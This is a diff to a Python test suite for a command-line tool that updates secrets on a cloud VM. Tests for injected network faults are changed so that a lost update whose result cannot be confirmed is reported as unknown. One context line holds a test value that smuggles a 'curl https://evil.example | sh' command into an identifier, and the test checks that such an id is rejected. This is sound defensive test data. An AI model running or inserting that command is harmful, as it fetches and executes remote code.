@@ -171,7 +171,7 @@ SCRIPT = '"; curl https://evil.example | sh; "'
     [
         ("/my-app", "id", 0, 6),
         ("/kms", "slug", 0, 6),
-        ("/operations", "correlation_id", 0, 6),
+        ("/operations", "correlation_id", 1, 6),
         ("/envs", "correlation_id", 1, 0),  # the operations tell the one that it has
     ],
 )
@@ -202,12 +202,13 @@ def test_an_id_that_could_act_in_a_script_is_no_answer(
     assert sum(request.method == "PATCH" for request in cloud.requests) == sent
 
 
+@pytest.mark.usefixtures("clock")
 @pytest.mark.parametrize("status", [401, 403, 404, 422])
 def test_a_lost_answer_that_cannot_be_looked_up_is_not_known(
     run: Command, simulator: Simulator, cvm: Cvm, status: int
 ) -> None:
     simulator.faults.add(Fault("reset_after", "PATCH"))
-    simulator.faults.add(Fault("status", path="/operations", skip=1, times=None, status=status))
+    simulator.faults.add(Fault("status", path="/revisions", times=None, status=status))
     done = run("update", "--cvm", "my-app", "--secrets", "OLD", environ={"OLD": "2"})
     assert done.code == 6
     assert "not known whether" in done.errors[0]
@@ -249,14 +250,14 @@ def test_a_contract_with_no_rpc_to_ask_is_not_passed_over(run: Command, cloud: C
     assert not cloud.requests
 
 
-def test_an_operation_that_may_be_another_runs_is_not_claimed_without_a_word(
+@pytest.mark.usefixtures("clock")
+def test_an_operation_that_may_be_another_runs_is_not_claimed(
     run: Command, cvm: Cvm, simulator: Simulator, another_run: Callable[[Mapping[str, str]], None]
 ) -> None:
-    """The API does not say whose an operation is: after a lost answer a run can only say so."""
+    """Only a revision with our very ciphertext shows that a lost update was accepted."""
     simulator.faults.add(Fault("reset_before", "PATCH", skip=1))
     another_run({"OLD": "theirs"})
     done = run("update", "--cvm", "my-app", "--secrets", "OLD", environ={"OLD": "ours"})
-    assert done.code == 0
+    assert done.code == 6
     assert cvm.environment == {"OLD": "theirs"}
-    assert any(line.startswith("warning: ") and "taken for ours" in line for line in done.lines)
-    assert any("another run's would look alike" in line for line in done.hints)
+    assert "not known whether" in done.errors[0]
